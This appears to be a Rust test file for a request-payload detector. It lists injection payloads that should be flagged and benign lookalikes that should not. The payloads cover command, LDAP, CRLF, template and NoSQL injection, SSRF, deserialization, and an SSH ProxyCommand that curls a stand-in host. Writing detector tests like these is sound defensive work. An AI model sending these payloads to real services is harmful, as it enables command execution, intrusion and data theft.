//! Do payloads that public checks send earn points, in each place where one of them stood?

use super::everyday::accused;
use crate::read::target::Target;

#[test]
fn payloads_of_public_checks() {
    let rows = [
        // Commands behind an address or nothing, and options.
        (Target::Query, "ip", "127.0.0.1\nid\n"),
        (Target::Json, "ip", "& id"),
        (Target::Query, "ip", "192.0.2.7&id"),
        (Target::Form, "ping", ";i${IFS}d"),
        (Target::Json, "repo", "ssh://-oProxyCommand=curl x.example/y"),
        (Target::Form, "email_address", "a@localhost\t-oQ/tmp/\t-C/var/x/sendmail.cf"),
        (Target::Form, "env", "--split-string=bash -c id"),
        // Parts of filters of LDAP, and whole ones that are never true.
        (Target::Json, "search", "|(objectClass=user)(sAMAccountName=admin)"),
        (Target::Query, "uid", "*(objectClass=*"),
        (Target::Query, "user", "(&(uid=admin)(!(&(1=0)(userPassword=q))))"),
        // Lines of answers and of mails, in fields of one line.
        (Target::Form, "lang", "en\r\nSet-Cookie: a=b"),
        (Target::Json, "url", "/x\r\nSet-Cookie: a=b"),
        (Target::Form, "to", "name\r\nReply-To:eve@x.example"),
        (Target::Form, "email", "test\nSubject: x"),
        // Templates.
        (Target::Json, "msg", "*{1+1}"),
        (Target::Form, "name", "@{1+1}"),
        (Target::Query, "template", "{7*7|raw}"),
        (Target::Form, "template", "{{7|int*7|int}}"),
        (Target::Query, "name", "{php system('id')}"),
        (Target::Json, "greeting", "${\"\".class}"),
        (Target::Query, "template", "${#ctx.environment}"),
        // Databases of documents.
        (Target::Form, "q", "', $or: [ {}, { 'order':'order"),
        (Target::Query, "id", "0;var date=new Date(); do{cur=new Date();}while(cur-date<10000)"),
        (Target::Query, "q", "a'; return db.a.find(); var x='a"),
        (Target::Query, "category", "fizzy' && 0 && 'x"),
        // Objects, and services of this machine.
        (Target::Json, "propertyName", "script::Runtime r=Runtime.getRuntime();r.exec('id');"),
        (Target::Json, "metadataUrl", "http://127.0.0.1:2375/containers/json"),
        (Target::Json, "class", "\\GuzzleHttp\\Psr7\\FnStream"),
        (Target::Cookie, "_session", "BAhjE0dlbTo6U3BlY0ZldGNoZXI="),
        (Target::Query, "file", "\\\\::1\\c$\\users\\default\\ntuser.dat"),
    ];
    for (target, name, value) in rows {
        assert_ne!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}

#[test]
fn their_likes_of_every_day() {
    let rows = [
        (Target::Json, "text", "salt & pepper"),
        (Target::Json, "list", "name\nid\nemail"),
        (Target::Form, "text", "R & D & id"),
        (Target::Json, "filter", "(&(objectClass=user)(memberOf=cn=staff,dc=x,dc=example))"),
        (Target::Form, "message", "See the answer:\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b"),
        (Target::Form, "message", "hello\nSubject: the meeting"),
        (Target::Query, "range", "{1+1}"),
        (Target::Form, "q", "{{ name|title }} and {{ a|int }}"),
        (Target::Json, "url", "http://localhost:9200/_cluster/health"),
        (Target::Json, "input", "get_weather(city='Oslo')"),
        (Target::Json, "description", "get_weather(city: str) -> dict"),
        (Target::Text, "", "<link href=\"http://x.example/feed\" rel=\"alternate\"/>"),
        (Target::Text, "", "<foreignObject x=\"0\" y=\"0\" width=\"9\" height=\"9\"><p>x</p></foreignObject>"),
        (Target::Text, "", "<use id=\"a\" xlink:href=\"#shade\"/>"),
        (Target::Text, "", "<meta http-equiv=3D\"Content-Type\" content=3D\"text/html\">"),
        (Target::Json, "HtmlBody", "{% if (state.state in names) %}on{% endif %}"),
        (Target::Json, "body", "{% if request.user.is_authenticated %}<p>hi</p>{% endif %}"),
    ];
    for (target, name, value) in rows {
        assert_eq!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}
